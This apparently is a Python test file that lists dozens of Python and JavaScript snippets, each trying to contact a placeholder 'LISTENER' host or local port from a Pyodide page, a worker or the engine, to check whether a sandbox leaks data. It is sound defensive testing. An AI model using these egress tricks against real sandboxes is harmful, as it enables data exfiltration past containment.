"""The ways out that the red-team tests try. Each is code that tells the listener something if it can.

LISTENER and OWN stand for the listener's address and the page's own host. Code for the engine is the body of a Python
coroutine, code for the page and for the bare worker the body of an asynchronous JavaScript function. What returns has
got through as far as it can tell; the listener is the judge.
"""

ENGINE = {
    "fetch": "import js\nreturn await js.fetch('LISTENER')",
    "fetch, own host": "import js\nreturn await js.fetch('OWN' + 'index.html')",
    "fetch, the inherited one": "import js\nreturn await js.Object.getPrototypeOf(js.globalThis).fetch('LISTENER')",
    "pyodide.http.pyfetch": "from pyodide.http import pyfetch\nreturn await pyfetch('LISTENER')",
    "pyodide.http.open_url": "from pyodide.http import open_url\nreturn open_url('LISTENER').read()",
    "XMLHttpRequest": "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', 'LISTENER', False)\nx.send()\nreturn x.status",
    "urllib": "import urllib.request\nreturn urllib.request.urlopen('LISTENER', timeout=2).read()",
    "http.client": "import http.client\nc = http.client.HTTPConnection('127.0.0.1', PORT, timeout=2)\n"
    "c.request('GET', '/leak')\nreturn c.getresponse().status",
    "socket": "import socket\ns = socket.create_connection(('127.0.0.1', PORT), 2)\ns.sendall(b'leak')\nreturn s.recv(2)",
    "asyncio": "import asyncio\nreturn await asyncio.open_connection('127.0.0.1', PORT)",
    "WebSocket": "import js, asyncio\nw = js.WebSocket.new('LISTENER'.replace('http', 'ws'))\nawait asyncio.sleep(0.5)\n"
    "return w.readyState",
    "EventSource": "import js, asyncio\nw = js.EventSource.new('LISTENER')\nawait asyncio.sleep(0.5)\nreturn w.readyState",
    "WebTransport": "import js\nw = js.WebTransport.new('LISTENER'.replace('http', 'https'))\nawait w.ready\nreturn 1",
    "sendBeacon": "import js\nreturn js.navigator.sendBeacon('LISTENER', 'leak')",
    "importScripts": "import js\nreturn js.importScripts('LISTENER')",
    "dynamic import": "from pyodide.code import run_js\nreturn await run_js(\"import('LISTENER')\")",
    "dynamic import, own host": "from pyodide.code import run_js\nreturn await run_js(\"import('OWNsrc/main.js')\")",
    "a function made of text": "import js\nreturn await js.Function.new(\"return fetch('LISTENER')\")()",
    "a nested worker": "import js\nreturn js.Worker.new('LISTENER')",
    "a nested worker of its own text": "import js\nb = js.Blob.new(js.Array.of(\"fetch('LISTENER')\"))\n"
    "w = js.Worker.new(js.URL.createObjectURL(b))\nimport asyncio\nawait asyncio.sleep(0.5)\nreturn w",
    "a shared worker": "import js\nreturn js.SharedWorker.new('LISTENER')",
    "WebRTC": "import js\np = js.RTCPeerConnection.new()\nreturn p",
    "a font": "import js\nf = js.FontFace.new('leak', \"url('LISTENER')\")\nreturn await f.load()",
    "WebAssembly streaming": "import js\nreturn await js.WebAssembly.compileStreaming(js.fetch('LISTENER'))",
    "Pyodide's loader": "import pyodide_js\nloaded = await pyodide_js.loadPackage('LISTENER/x-1-py3-none-any.whl')\n"
    "assert len(loaded), 'It says in the console that it could not.'",
    "a broadcast to other tabs": "import js\nreturn js.BroadcastChannel.new('leak').postMessage('leak')",
    "IndexedDB": "import js\nreturn js.indexedDB.open('leak')",
    "the cache": "import js\nreturn await js.caches.open('leak')",
    "the private file system": "import js\nreturn await js.navigator.storage.getDirectory()",
    "a notification": "import js\nreturn js.Notification.new('leak')",
}

PAGE = {
    "fetch": "return (await fetch('LISTENER')).status",
    "fetch, own host": "return (await fetch('index.html?leak')).status",
    "fetch, keepalive": "return (await fetch('LISTENER', {method: 'POST', body: 'leak', keepalive: true, mode: 'no-cors'})).type",
    "fetchLater": "return fetchLater('LISTENER', {activateAfter: 0}).activated",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', 'LISTENER', false); x.send(); return x.status",
    "WebSocket": "const w = new WebSocket('LISTENER'.replace('http', 'ws')); await pause(); "
    "if (w.readyState === 3) throw new Error('closed'); return w.readyState",
    "EventSource": "const w = new EventSource('LISTENER'); await pause(); "
    "if (w.readyState === 2) throw new Error('closed'); return w.readyState",
    "WebTransport": "const w = new WebTransport('LISTENER'.replace('http', 'https')); await w.ready; return 1",
    "sendBeacon": "return navigator.sendBeacon('LISTENER', 'leak')",
    "an image": "return await loads(Object.assign(new Image(), {src: 'LISTENER'}))",
    "an image in SVG": "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); "
    "const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', 'LISTENER'); "
    "s.append(i); document.body.append(s); return await loads(i)",
    "a background": "document.body.style.backgroundImage = \"url('LISTENER')\"; await pause(); return watch()",
    "an image button": "const i = document.createElement('input'); i.type = 'image'; i.src = 'LISTENER'; "
    "document.body.append(i); return await loads(i)",
    "a video": "const v = document.createElement('video'); v.src = 'LISTENER'; document.body.append(v); "
    "await v.play(); return 1",
    "a video's poster": "const v = document.createElement('video'); v.poster = 'LISTENER'; document.body.append(v); "
    "await pause(); return watch()",
    "a script": "const s = document.createElement('script'); s.src = 'LISTENER'; document.head.append(s); "
    "return await loads(s)",
    "an inline script": "const s = document.createElement('script'); s.append(\"globalThis.leaked = true\"); "
    "document.head.append(s); if (!globalThis.leaked) throw new Error('not run'); return 1",
    "dynamic import": "return await import('LISTENER')",
    "a style sheet": "const s = document.createElement('style'); s.append(\"@import url('LISTENER')\"); "
    "document.head.append(s); await pause(); return watch()",
    "a link to a style sheet": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'LISTENER'; "
    "document.head.append(l); return await loads(l)",
    "prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'LISTENER'; "
    "document.head.append(l); return await loads(l)",
    "preconnect": "const l = document.createElement('LINK'); l.rel = 'preconnect'; l.href = 'LISTENER'; "
    "document.head.append(l); await pause(); return watch()",
    "preconnect, another way": "const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link'); "
    "const l = d.documentElement; l.rel = 'preconnect'; l.href = 'LISTENER'; document.head.append(l); await pause(); "
    "return watch()",
    "preconnect from markup": "document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect href=LISTENER>'); "
    "await pause(); return watch()",
    "preconnect from parsed markup": "const d = new DOMParser().parseFromString('<link rel=preconnect href=LISTENER>', "
    "'text/html'); document.head.append(d.querySelector('link')); await pause(); return watch()",
    "a font": "return await new FontFace('leak', \"url('LISTENER')\").load()",
    "a frame": "const f = document.createElement('iframe'); f.src = 'LISTENER'; document.body.append(f); "
    "return await loads(f)",
    "a frame of another name space": "const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'IFRAME'.toLowerCase()); "
    "document.body.append(f); return new f.contentWindow.RTCPeerConnection()",
    "the engine's own frame": "return window[0].document.body",
    "the engine's own frame sent elsewhere": "window[0].location = 'LISTENER'; await pause(); return watch()",
    "an object": "const o = document.createElement('object'); o.data = 'LISTENER'; document.body.append(o); "
    "return await loads(o)",
    "a form": "const f = document.createElement('form'); f.action = 'LISTENER'; f.method = 'post'; "
    "document.body.append(f); f.submit(); await pause(); return watch()",
    "a new window": "return window.open('LISTENER').closed",
    "going elsewhere": "location.href = 'LISTENER'; await pause(); return watch()",
    "going elsewhere on the own host": "location.href = 'index.html?leak'; await pause(); return watch()",
    "a link followed": "const a = document.createElement('a'); a.href = 'LISTENER'; document.body.append(a); a.click(); "
    "await pause(); return watch()",
    "a link not in the page": "const a = document.createElement('a'); a.href = 'LISTENER'; a.click(); await pause(); "
    "return watch()",
    "a download from elsewhere": "const a = document.createElement('a'); a.href = 'LISTENER'; a.download = 'x'; "
    "document.body.append(a); a.click(); await pause(); return watch()",
    "a ping": "const a = document.createElement('a'); a.href = '#main'; a.ping = 'LISTENER'; document.body.append(a); "
    "a.click(); await pause(); return watch()",
    "a refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=LISTENER'; "
    "document.head.append(m); await pause(); return watch()",
    "a refresh written": "document.write('<meta http-equiv=refresh content=\"0;url=LISTENER\">'); return watch()",
    "speculation rules": "const s = document.createElement('script'); s.type = 'speculationrules'; "
    "s.append(JSON.stringify({prefetch: [{urls: ['LISTENER']}]})); document.head.append(s); await pause(); return watch()",
    "WebRTC": "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]}); p.createDataChannel('x'); "
    "await p.setLocalDescription(await p.createOffer()); await pause(); return 1",
    "a worker": "return new Worker(URL.createObjectURL(new Blob([\"fetch('LISTENER')\"])))",
    "a shared worker": "return new SharedWorker(URL.createObjectURL(new Blob([\"fetch('LISTENER')\"])))",
    "a service worker": "return await navigator.serviceWorker.register('sw.js?leak')",
    "a worklet": "return await CSS.paintWorklet.addModule('LISTENER')",
    "an audio worklet": "return await new AudioContext().audioWorklet.addModule('LISTENER')",
    "text run as a script": "return eval(\"fetch('LISTENER')\")",
    "a broadcast to other tabs": "new BroadcastChannel('leak').postMessage('leak'); return 1",
    "local storage": "localStorage.setItem('leak', 'leak'); return 1",
    "session storage": "sessionStorage.setItem('leak', 'leak'); return 1",
    "IndexedDB": "indexedDB.open('leak'); return 1",
    "the cache": "await caches.open('leak'); return 1",
    "the private file system": "await navigator.storage.getDirectory(); return 1",
    "a cookie": "document.cookie = 'leak=leak'; if (!document.cookie.includes('leak')) throw new Error('none'); return 1",
}

BARE_WORKER = {
    "fetch": "return (await fetch('LISTENER')).status",
    "fetch, own host": "return (await fetch('OWN')).status",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', 'LISTENER', false); x.send(); return x.status",
    "WebSocket": "const w = new WebSocket('LISTENER'.replace('http', 'ws')); await pause(); "
    "if (w.readyState === 3) throw new Error('closed'); return w.readyState",
    "EventSource": "const w = new EventSource('LISTENER'); await pause(); "
    "if (w.readyState === 2) throw new Error('closed'); return w.readyState",
    "WebTransport": "const w = new WebTransport('LISTENER'.replace('http', 'https')); await w.ready; return 1",
    "importScripts": "importScripts('LISTENER'); return 1",
    "importScripts, own host": "importScripts('OWNengine/unpack.js'); return 1",
    "dynamic import": "return typeof (await import('LISTENER'))",
    "dynamic import, own host": "return typeof (await import('OWNengine/unpack.js'))",
    "a nested worker": "new Worker('OWNengine/unpack.js'); return 1",
    "a nested worker of its own text": "new Worker(URL.createObjectURL(new Blob([\"fetch('LISTENER')\"]))); return 1",
    "text run as a script": "return eval('1 + 1')",
    "IndexedDB": "return await new Promise((yes, no) => { const r = indexedDB.open('leak'); r.onsuccess = yes; r.onerror = no; })",
    "the cache": "return await caches.open('leak')",
    "WebRTC": "return new RTCPeerConnection()",
}

HELPERS = """
const pause = () => new Promise((resolve) => setTimeout(resolve, 600));
// For what cannot be seen from within whether it got out: the listener tells.
const watch = () => "unknown";
const loads = (element) => new Promise((resolve, reject) => {
  element.onload = () => resolve("loaded");
  element.onerror = () => reject(new Error("refused"));
  setTimeout(() => reject(new Error("nothing came")), 1500);
});
"""


def aimed(code: str, listener_url: str, own_url: str) -> str:
    """Code with the addresses filled in."""
    port = listener_url.rsplit(":", 1)[1].partition("/")[0]
    return code.replace("LISTENER", listener_url).replace("OWN", own_url).replace("PORT", port)
